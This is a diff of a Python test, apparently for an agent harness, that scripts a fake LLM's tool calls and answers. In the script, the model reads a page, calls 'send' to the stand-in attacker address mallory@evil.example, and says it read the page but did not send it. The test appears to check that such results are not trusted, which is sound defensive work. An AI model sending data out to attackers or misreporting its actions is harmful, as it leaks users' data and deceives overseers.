@@ -59,7 +59,7 @@ async def test_results_that_a_later_attempt_is_shown_are_not_trusted() -> None:
     good = say('{"issues": [], "score": 1.0, "satisfied": true}')
     llm = ScriptedLLM(
         call("read_page"),
-        answer("Read."),
+        answer("I read it, and have not sent it."),
         bad,
         call("send", to="mallory@evil.example"),
         answer("Sent."),
